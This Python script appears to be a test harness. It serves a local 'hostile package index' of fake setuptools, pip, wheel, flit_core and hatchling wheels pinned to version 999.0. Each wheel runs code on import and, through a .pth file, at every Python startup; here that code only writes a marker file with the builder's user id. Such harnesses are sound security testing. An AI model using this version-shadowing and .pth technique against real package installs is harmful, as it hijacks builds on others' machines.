"""A hostile package index: of one package it has the source alone, and the tools to build it are its own.

    hostile_index.py FOLDER PORT

Serves FOLDER on the host's loopback; what is in FOLDER/simple/NAME/ is what there is of NAME. Adds build tools of its own: the
wheels of setuptools and its like write a file into /var/tmp/owned, as whoever builds with them.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import http.server
import sys
import zipfile
from pathlib import Path

TOOLS = {"setuptools": "999.0", "wheel": "999.0", "flit_core": "999.0", "hatchling": "999.0", "pip": "999.0"}
CODE = """\
import os, sys, tempfile
handle, _ = tempfile.mkstemp(prefix="build-", dir="/var/tmp/owned")
os.write(handle, f"{os.geteuid()} {sys.argv}".encode())
os.close(handle)
"""


def wheel(folder: Path, name: str, version: str) -> None:
    """A wheel whose code runs when it is imported, and when a Python starts that has it on its path."""
    files = {
        f"{name}/__init__.py": CODE,
        f"{name}/build_meta.py": CODE,
        f"{name}/build.py": CODE,
        f"{name}-hostile.pth": "import os; "
        + CODE.replace("import os, ", "import ").strip().replace("\n", "; ")
        + "\n",
        f"{name}-{version}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{name}-{version}.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = f"{name}-{version}.dist-info/RECORD"
    lines = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        lines.append(f"{path},sha256={digest},{len(text)}")
    files[record] = "\n".join([*lines, f"{record},,", ""])
    folder.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(folder / f"{name}-{version}-py3-none-any.whl", "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)


def main(folder: Path, port: int) -> None:
    for name, version in TOOLS.items():
        wheel(folder / "simple" / name.replace("_", "-"), name, version)
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    print("ready", flush=True)
    with open("/dev/null", "w") as sys.stderr:
        server.serve_forever()


if __name__ == "__main__":
    main(Path(sys.argv[1]), int(sys.argv[2]))
